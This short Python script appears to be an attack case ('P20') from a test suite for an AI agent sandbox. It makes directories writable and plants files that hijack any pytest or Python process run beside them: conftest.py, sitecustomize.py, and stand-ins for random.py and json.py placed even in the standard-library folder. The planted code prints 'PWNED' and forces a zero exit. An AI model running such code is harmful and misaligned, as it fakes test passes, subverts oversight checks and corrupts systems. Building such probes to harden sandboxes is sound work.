"""Leave files that pytest or Python would run if they lay beside a test.

attack: P20 run in the process that decides
guard: nothing is taken out of a sandbox but the stream
ending: exited
"""

import os

CODE = "import os, sys\nsys.stdout.write('PWNED')\nos._exit(0)\n"
for folder in ("/tmp", "/tmp/agent", "/workspace", os.path.dirname(os.__file__)):
    for name in ("conftest.py", "pytest.ini", "sitecustomize.py", "random.py", "json.py", "test_planted.py"):
        try:
            os.chmod(folder, 0o755)
            with open(os.path.join(folder, name), "w") as file:
                file.write(CODE)
        except OSError:
            continue
print("held")
